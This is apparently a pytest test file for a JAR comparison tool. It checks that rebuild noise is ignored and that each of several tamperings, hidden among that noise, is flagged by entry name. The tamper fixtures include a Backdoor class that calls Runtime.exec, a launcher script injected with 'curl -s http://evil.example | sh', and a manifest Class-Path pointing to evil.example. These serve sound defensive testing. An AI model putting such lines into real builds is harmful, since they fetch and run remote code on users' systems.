"""More of the security contract as tests: real recompiled tamperings, changed (not only added) launch attributes,
a changed nested JAR and kept signature files, each hidden among rebuild noise, with and without the class-file
stabilizers; and the tamper suite of ``test_tamper.py`` again with every stabilizer on.

The project is compiled in the test with javac and packaged by the JDK's ``jar`` tool (the reference). Each
rebuild is the same files zipped again by Python with every kind of noise the stabilizers remove (entry order,
timestamps, modes, compression level, Built-By/Build-Jdk/Created-By, manifest attribute order and line endings,
the pom.properties date and key order, and the same noise inside the nested JAR) plus ONE tampering. The noise
alone must be "equivalent"; with the tampering the verdict must be "different" and the text and JSON reports
must name exactly the tampered entry.
"""

from __future__ import annotations

import io
import json
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import pytest

from canonjar import Outcome, Verdict, compare_bytes, select_stabilizers
from canonjar.report import ReportFormat, render
from tests import test_tamper as base_tamper
from tests.helpers import Item, jdk_tool, make_zip
from tests.hostile import compile_variants

pytestmark = pytest.mark.skipif(jdk_tool("javac") is None or jdk_tool("jar") is None, reason="no JDK (javac, jar)")

Files = dict[str, bytes]

MAIN = """package app;

public class Main {
    public static void main(String[] args) {
        System.out.println(Util.greet(args.length > 0 ? args[0] : "world"));
    }
}
"""
UTIL = """package app;

public class Util {
    static final String GREETING = "hello";

    public static String greet(String who) {
        return GREETING + ", " + who;
    }
}
"""
UTIL_VARIANTS = {
    "constant": UTIL.replace('"hello"', '"hullo"'),
    "method": UTIL.replace("    public static String greet", "    public static String extra() {\n"
                           "        return System.getenv(\"HOME\");\n    }\n\n    public static String greet"),
    "exec": UTIL.replace("        return GREETING", "        try {\n            Runtime.getRuntime().exec(new String[] "
                         "{\"sh\", \"-c\", \"id\"});\n        } catch (java.io.IOException e) {\n"
                         "            // ignored\n        }\n        return GREETING"),
}
AGENT = """package app;

import java.lang.instrument.Instrumentation;

public class Agent {
    public static void premain(String args, Instrumentation inst) { }
    public static void agentmain(String args, Instrumentation inst) { }
}
"""
PLUGIN = """package app;

import java.util.function.Supplier;

public class Plugin implements Supplier<String> {
    public String get() { return "plugin"; }
}
"""
BACKDOOR = """package app;

public class Backdoor {
    static { try { Runtime.getRuntime().exec("id"); } catch (Exception e) { } }
}
"""
MANIFEST_IN = """Main-Class: app.Main
Premain-Class: app.Agent
Agent-Class: app.Agent
Class-Path: lib/inner.jar
Add-Opens: java.base/java.lang
Built-By: alice
Build-Jdk: 17.0.2
Implementation-Version: 1.0
"""
SERVICE = "META-INF/services/java.util.function.Supplier"
POM_PROPS = "META-INF/maven/demo/app/pom.properties"


@dataclass(frozen=True)
class Project:
    reference: bytes
    files: Files  # the reference's entries (no directories)
    util: dict[str, bytes]  # app/Util.class of each variant ("base", "constant", "method", "exec")
    backdoor: bytes


def _inner_jar(util_class: bytes, noisy: bool) -> bytes:
    items = [Item("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nCreated-By: 17\r\n\r\n"),
             Item("app/Util.class", util_class)]
    if noisy:
        return make_zip([Item(i.name, i.data, date_time=(2026, 11, 13, 1, 2, 4), mode=0o664, level=1)
                         for i in reversed(items)])
    return make_zip(items)


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Project:
    root = tmp_path_factory.mktemp("tamper-more")
    base = {"app/Main.java": MAIN, "app/Util.java": UTIL, "app/Agent.java": AGENT, "app/Plugin.java": PLUGIN,
            "app/Backdoor.java": BACKDOOR}
    dirs = compile_variants(root, {"base": base, **{k: {"app/Util.java": v} for k, v in UTIL_VARIANTS.items()}})
    classes = dirs["base"]
    backdoor = (classes / "app" / "Backdoor.class").read_bytes()
    (classes / "app" / "Backdoor.class").unlink()
    util = {k: (d / "app" / "Util.class").read_bytes() for k, d in dirs.items()}
    resources = {
        "app/messages.properties": b"greeting=hello\nfarewell=bye\n",
        "bin/run.sh": b"#!/bin/sh\nexec java -jar \"$(dirname \"$0\")/../app.jar\" \"$@\"\n",
        SERVICE: b"app.Plugin\n",
        POM_PROPS: b"#Created by Apache Maven 3.8.7\n#Sun Nov 22 10:00:00 UTC 2026\ngroupId=demo\nartifactId=app\n"
                   b"version=1.0\n",
        "lib/inner.jar": _inner_jar(util["base"], noisy=False),
    }
    for rel, data in resources.items():
        (classes / rel).parent.mkdir(parents=True, exist_ok=True)
        (classes / rel).write_bytes(data)
    (root / "MANIFEST.MF").write_text(MANIFEST_IN)
    jar = jdk_tool("jar")
    assert jar is not None
    out = root / "app.jar"
    subprocess.run([jar, "--create", "--file", str(out), "--manifest", str(root / "MANIFEST.MF"), "-C", str(classes),
                    "."], check=True, capture_output=True, timeout=300)
    ref = out.read_bytes()
    with zipfile.ZipFile(io.BytesIO(ref)) as zf:
        files = {i.filename: zf.read(i) for i in zf.infolist() if not i.is_dir()}
    return Project(ref, files, util, backdoor)


def _noisy_manifest(data: bytes) -> bytes:
    """Other build attributes, main attributes in reverse order, CRLF line endings; Name sections kept."""
    text = data.decode().replace("\r\n", "\n")
    main, _sep, rest = text.partition("\n\n")
    lines = [ln for ln in main.split("\n") if ln]
    assert not any(ln.startswith(" ") for ln in lines), "the test manifest has no continuation lines"
    drop = ("built-by:", "build-jdk:", "created-by:")
    kept = [ln for ln in lines[1:] if not ln.lower().startswith(drop)]
    out = [lines[0], "Created-By: Maven JAR Plugin 3.3.0", "Built-By: bob", "Build-Jdk: 21.0.1", *reversed(kept)]
    return ("\r\n".join(out) + "\r\n\r\n" + rest.replace("\n", "\r\n")).encode()


def rebuild(files: Files, tamper: Callable[[Files], str] | None = None) -> tuple[bytes, str | None]:
    """The files zipped again with noise, and the path ``tamper`` reports it changed."""
    out = dict(files)
    out["META-INF/MANIFEST.MF"] = _noisy_manifest(out["META-INF/MANIFEST.MF"])
    if POM_PROPS in out:
        out[POM_PROPS] = (b"#Generated by Maven\n#Fri Nov 27 23:59:59 CET 2026\nversion=1.0\nartifactId=app\n"
                          b"groupId=demo\n")
    if "lib/inner.jar" in out:
        with zipfile.ZipFile(io.BytesIO(out["lib/inner.jar"])) as zf:
            out["lib/inner.jar"] = _inner_jar(zf.read("app/Util.class"), noisy=True)
    path = tamper(out) if tamper is not None else None
    items = [Item(n, d, date_time=(2026, 11, 13, 13, 13, 14), mode=0o664, level=1,
                  method=zipfile.ZIP_STORED if n.endswith(".jar") else zipfile.ZIP_DEFLATED) for n, d in out.items()]
    return make_zip(sorted(items, key=lambda it: it.name, reverse=True)), path


def _set(path: str, data: bytes) -> Callable[[Files], str]:
    def tamper(files: Files) -> str:
        files[path] = data
        return path
    return tamper


def _manifest_value(attr: str, old: str, new: str) -> Callable[[Files], str]:
    def tamper(files: Files) -> str:
        mf = files["META-INF/MANIFEST.MF"]
        line = f"{attr}: {old}\r\n".encode()
        assert mf.count(line) == 1, (attr, mf)
        files["META-INF/MANIFEST.MF"] = mf.replace(line, f"{attr}: {new}\r\n".encode())
        return "META-INF/MANIFEST.MF"
    return tamper


def _remove(path: str) -> Callable[[Files], str]:
    def tamper(files: Files) -> str:
        del files[path]
        return path
    return tamper


def _edit(path: str, old: bytes, new: bytes) -> Callable[[Files], str]:
    def tamper(files: Files) -> str:
        assert old in files[path]
        files[path] = files[path].replace(old, new)
        return path
    return tamper


def _tampers(p: Project) -> dict[str, tuple[Callable[[Files], str], str | None]]:
    """Each tampering and a string the text report must show about it (besides the path)."""
    def nested(files: Files) -> str:
        files["lib/inner.jar"] = _inner_jar(p.util["constant"], noisy=True)
        return "lib/inner.jar!/app/Util.class"

    return {
        "class-recompiled-constant": (_set("app/Util.class", p.util["constant"]), None),
        "class-method-added": (_set("app/Util.class", p.util["method"]), None),
        "class-runtime-exec-added": (_set("app/Util.class", p.util["exec"]), None),
        "class-added": (_set("app/Backdoor.class", p.backdoor), None),
        "class-removed": (_remove("app/Plugin.class"), None),
        "resource-changed": (_edit("app/messages.properties", b"greeting=hello", b"greeting=pwned"), "pwned"),
        "script-changed": (_edit("bin/run.sh", b"exec java", b"curl -s http://evil.example | sh; exec java"),
                           "evil.example"),
        "main-class-changed": (_manifest_value("Main-Class", "app.Main", "app.Backdoor"), "Main-Class"),
        "premain-class-changed": (_manifest_value("Premain-Class", "app.Agent", "app.Backdoor"), "Premain-Class"),
        "agent-class-changed": (_manifest_value("Agent-Class", "app.Agent", "app.Backdoor"), "Agent-Class"),
        "class-path-changed": (_manifest_value("Class-Path", "lib/inner.jar", "lib/inner.jar http://evil.example/x"),
                               "Class-Path"),
        "add-opens-changed": (_manifest_value("Add-Opens", "java.base/java.lang", "java.base/sun.nio.ch"),
                              "Add-Opens"),
        "service-changed": (_edit(SERVICE, b"app.Plugin", b"app.Backdoor"), "app.Backdoor"),
        "nested-jar-changed": (nested, None),
    }


TAMPER_NAMES = ["class-recompiled-constant", "class-method-added", "class-runtime-exec-added", "class-added",
                "class-removed", "resource-changed", "script-changed", "main-class-changed", "premain-class-changed",
                "agent-class-changed", "class-path-changed", "add-opens-changed", "service-changed",
                "nested-jar-changed"]
MODES = {"default": select_stabilizers(), "all": select_stabilizers(enable=["all"])}


def assert_names_exactly(out: Outcome, path: str, words: tuple[str, ...] = ()) -> None:
    """Verdict different, exactly one residual difference at ``path``, named by the text and JSON reports."""
    assert out.verdict is Verdict.DIFFERENT, out.error
    assert [d.path for d in out.differences] == [path], [(d.path, d.aspect) for d in out.differences]
    assert out.findings == ()
    text = render(out, ReportFormat.text)
    assert path in text
    for w in words:
        assert w in text, (w, text)
    doc = json.loads(render(out, ReportFormat.json))
    assert doc["verdict"] == "different" and [d["path"] for d in doc["differences"]] == [path]


@pytest.mark.parametrize("mode", sorted(MODES))
def test_noise_alone_is_equivalent(project: Project, mode: str) -> None:
    noisy, _ = rebuild(project.files)
    out = compare_bytes(project.reference, noisy, stabilizers=MODES[mode])
    assert out.verdict is Verdict.EQUIVALENT, [(d.path, d.aspect, d.note) for d in out.differences]


@pytest.mark.parametrize("mode", sorted(MODES))
@pytest.mark.parametrize("case", TAMPER_NAMES)
def test_tampering_among_noise_is_named(project: Project, case: str, mode: str) -> None:
    tamper, word = _tampers(project)[case]
    data, path = rebuild(project.files, tamper)
    assert path is not None
    out = compare_bytes(project.reference, data, stabilizers=MODES[mode])
    assert_names_exactly(out, path, (word,) if word else ())


def test_every_tampering_has_a_case(project: Project) -> None:
    assert sorted(_tampers(project)) == sorted(TAMPER_NAMES)


def test_recompiled_variants_really_differ_in_code(project: Project) -> None:
    """The class variants are real recompilations: different bytes, and the exec variant calls Runtime.exec."""
    assert len(set(project.util.values())) == 4
    assert b"java/lang/Runtime" in project.util["exec"] and b"java/lang/Runtime" not in project.util["base"]
    assert b"hullo" in project.util["constant"] and b"extra" in project.util["method"]


@pytest.fixture(scope="module")
def signed(project: Project, tmp_path_factory: pytest.TempPathFactory) -> bytes:
    keytool, jarsigner = jdk_tool("keytool"), jdk_tool("jarsigner")
    if keytool is None or jarsigner is None:
        pytest.skip("no keytool/jarsigner")
    root = tmp_path_factory.mktemp("signed")
    jar = root / "app.jar"
    jar.write_bytes(project.reference)
    ks = root / "ks.p12"
    subprocess.run([keytool, "-genkeypair", "-keystore", str(ks), "-storepass", "secret", "-alias", "rel", "-keyalg",
                    "EC", "-dname", "CN=release", "-validity", "2"], check=True, capture_output=True, timeout=300)
    subprocess.run([jarsigner, "-keystore", str(ks), "-storepass", "secret", str(jar), "rel"], check=True,
                   capture_output=True, timeout=300)
    return jar.read_bytes()


@pytest.mark.parametrize("mode", sorted(MODES))
def test_signature_files_kept_while_content_changed(project: Project, signed: bytes, mode: str) -> None:
    """The rebuild carries the reference's signature files (*.SF, *.EC) and per-entry digests unchanged, but a
    class is replaced: the signature stabilizer removes the signature on both sides, and the class is still
    compared, so the change is named."""
    with zipfile.ZipFile(io.BytesIO(signed)) as zf:
        files = {i.filename: zf.read(i) for i in zf.infolist() if not i.is_dir()}
    assert any(n.endswith(".SF") for n in files) and any(n.endswith(".EC") for n in files)
    noisy, _ = rebuild(files)
    assert compare_bytes(signed, noisy, stabilizers=MODES[mode]).verdict is Verdict.EQUIVALENT
    data, path = rebuild(files, _set("app/Util.class", project.util["exec"]))
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        kept = {n: zf.read(n) for n in zf.namelist() if n.startswith("META-INF/") and n.endswith((".SF", ".EC"))}
    assert kept and all(files[n] == d for n, d in kept.items())  # the very same signature files
    out = compare_bytes(signed, data, stabilizers=MODES[mode])
    assert path == "app/Util.class"
    assert_names_exactly(out, path)


@pytest.mark.parametrize("case", sorted(base_tamper.CASES))
def test_base_tamper_suite_with_every_stabilizer_on(case: str) -> None:
    """The tamper suite of test_tamper.py on a real library JAR, again with the class-file stabilizers enabled."""
    if base_tamper.LIB is None:
        pytest.skip("no real library JAR on this machine")
    original = base_tamper.LIB.read_bytes()
    touched: list[str] = []
    data = base_tamper._rebuild(original, lambda f: touched.append(base_tamper.CASES[case](f)))
    out = compare_bytes(original, data, stabilizers=MODES["all"])
    assert out.verdict is Verdict.DIFFERENT
    assert {d.path for d in out.differences} == set(touched), [(d.path, d.aspect) for d in out.differences]
